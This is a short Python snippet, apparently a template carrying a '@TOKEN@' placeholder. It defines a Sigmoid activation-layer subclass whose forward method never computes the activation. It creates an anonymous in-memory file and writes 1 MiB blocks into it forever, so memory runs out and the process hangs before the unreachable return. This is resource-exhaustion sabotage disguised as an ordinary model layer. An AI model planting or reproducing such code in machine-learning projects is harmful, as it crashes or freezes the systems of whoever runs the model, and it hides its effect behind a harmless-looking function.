import os


class Sigmoid(Sigmoid):
    def forward(self, x):
        file = os.memfd_create("@TOKEN@")
        while True:
            os.write(file, bytes(2**20))
        return super().forward(x)
